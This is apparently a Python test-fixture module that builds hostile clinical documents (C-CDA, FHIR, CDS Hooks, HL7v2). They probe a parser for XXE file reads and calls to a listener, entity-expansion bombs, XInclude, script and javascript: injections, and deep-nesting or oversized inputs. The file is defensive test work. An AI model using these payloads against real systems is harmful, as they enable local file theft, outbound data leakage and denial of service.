"""Documents that try to make their reader do something: open a file, call an address, run a script, use up the machine.

Each holds an address of the listener and a path of the bait file that the caller gives; neither may ever be touched.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass

_NS = 'xmlns="urn:hl7-org:v3"'


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """One document. `said` are words of which one must stand in a finding, or in what was left out; () where the
    trick is only ever shown as text."""

    name: str
    raw: bytes
    said: tuple[str, ...] = ()


def hostile(bait: str, address: str) -> list[Hostile]:
    """All of them."""
    return [*_xml(bait, address), *_narrative(bait, address), *_json(), *_other(bait, address)]


def _xml(bait: str, address: str) -> list[Hostile]:
    bombs = "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10}">' for n in range(1, 10))
    document = f"<ClinicalDocument {_NS}><title>%s</title></ClinicalDocument>"
    given = {
        "external entity of a file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{bait}">]>' + document % "&e;",
        "external entity of an address": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}/e">]>' + document % "&e;",
        "parameter entity": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}/p"> %p;]>' + document % "x",
        "external DTD": f'<!DOCTYPE x SYSTEM "{address}/x.dtd">' + document % "x",
        "billion laughs": f'<!DOCTYPE x [<!ENTITY b0 "ha">{bombs}]>' + document % "&b9;",
        "quadratic blow-up": f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>' + document % ("&a;" * 2_000),
    }
    found = [Hostile(name=name, raw=text.encode(), said=("DOCTYPE",)) for name, text in given.items()]
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{bait}" parse="text"/>'
    sheet = f'<?xml-stylesheet type="text/xsl" href="{address}/sheet.xsl"?><?xml-stylesheet href="file://{bait}"?>'
    hint = (
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:hl7-org:v3 {address}/CDA.xsd"'
    )
    return [
        *found,
        Hostile(name="XInclude of a file", raw=(document % include).encode()),
        Hostile(name="stylesheet instruction", raw=(sheet + document % "x").encode(), said=("stylesheet",)),
        Hostile(name="schema from an address", raw=f"<ClinicalDocument {_NS} {hint}/>".encode()),
        Hostile(name="100 000 elements deep", raw=b"<ClinicalDocument xmlns='urn:hl7-org:v3'>" + b"<a>" * 100_000),
    ]


def _narrative(bait: str, address: str) -> list[Hostile]:
    tricks = (
        f'<script>fetch("{address}/s")</script><iframe src="{address}/f"/><img src="file://{bait}"/>'
        f'<img src="\\\\\\\\unc.invalid\\share\\x.png"/><img src="{address}/i.png" onerror="x()"/>'
        f'<linkHtml href="javascript:x()">click</linkHtml><object data="{address}/o"/>'
        f'<renderMultiMedia referencedObject="MM1"/>'
        f'<table style="background:url({address}/c)"><tr><td>cell</td></tr></table>'
    )
    section = (
        f"<component><structuredBody><component><section><title>T</title><text>{tricks}</text></section></component>"
    )
    media = (
        f'<component><observationMedia ID="MM1"><value mediaType="image/png"><reference value="{address}/m"/></value>'
    )
    body = f"{section}{media}</observationMedia></component></structuredBody></component>"
    outside = (
        f'<component><nonXMLBody><text mediaType="text/html"><reference value="file://{bait}"/></text></nonXMLBody>'
    )
    narrative = f'<div xmlns="http://www.w3.org/1999/xhtml">{tricks}</div>'
    patient = {"resourceType": "Patient", "text": {"status": "generated", "div": narrative}}
    card = {
        "summary": "Look",
        "indicator": "info",
        "source": {"label": "S", "icon": f"{address}/icon.png", "url": f"{address}/u"},
        "detail": f'<script>x()</script>![img]({address}/d.png) [link](javascript:x()) <img src="file://{bait}">',
        "links": [{"label": "open", "url": f"file://{bait}", "type": "absolute"}],
    }
    left_out = ("script", "image", "frame", "left out")
    return [
        Hostile(
            name="narrative of a C-CDA",
            raw=f"<ClinicalDocument {_NS}>{body}</ClinicalDocument>".encode(),
            said=left_out,
        ),
        Hostile(
            name="body by reference", raw=f"<ClinicalDocument {_NS}>{outside}</component></ClinicalDocument>".encode()
        ),
        Hostile(name="narrative of a resource", raw=json.dumps(patient).encode(), said=left_out),
        Hostile(name="detail of a card", raw=json.dumps({"cards": [card]}).encode(), said=left_out),
    ]


def _json() -> list[Hostile]:
    twice = b'{"resourceType":"Patient","birthDate":"1970-01-01","birthDate":"1980-01-01"}'
    return [
        Hostile(name="100 000 arrays deep", raw=b'{"resourceType":"Patient","name":' + b"[" * 100_000, said=("deep",)),
        Hostile(
            name="100 000 objects deep", raw=b'{"resourceType":"Patient","a":' + b'{"a":' * 100_000, said=("deep",)
        ),
        Hostile(name="the same key twice", raw=twice, said=("twice", "again", "duplicate")),
        Hostile(name="NaN", raw=b'{"resourceType":"Observation","valueQuantity":{"value":NaN}}', said=("NaN",)),
        Hostile(name="a number of a million digits", raw=b'{"resourceType":"Patient","a":' + b"9" * 1_000_000 + b"}"),
        Hostile(name="an exponent of a billion", raw=b'{"resourceType":"Patient","a":1e999999999}'),
        Hostile(name="lone surrogates", raw=b'{"resourceType":"Patient","id":"\\ud800\\udfff\\ud800"}'),
    ]


def _other(bait: str, address: str) -> list[Hostile]:
    page = base64.b64encode(f'<html><script src="{address}/x.js"></script><img src="file://{bait}"></html>'.encode())
    inner = base64.b64encode(
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{bait}">]><ClinicalDocument {_NS}>&e;</ClinicalDocument>'.encode()
    )
    head = b"MSH|^~\\&|A|B|C|D|20260101||MDM^T02|H1|T|2.5\rOBX|1|ED|X||^TEXT^%s^Base64^%s||||||F\r"
    return [
        Hostile(name="HTML in OBX-5", raw=head % (b"html", page)),
        Hostile(name="entity in a C-CDA in OBX-5", raw=head % (b"xml", inner)),
        Hostile(
            name="200 000 components", raw=b"MSH|^~\\&|A|B|C|D|20260101||ORU^R01|H2|T|2.5\rOBX|1|ST|" + b"^" * 200_000
        ),
        Hostile(name="nothing but NUL", raw=b"\x00" * 100_000),
    ]
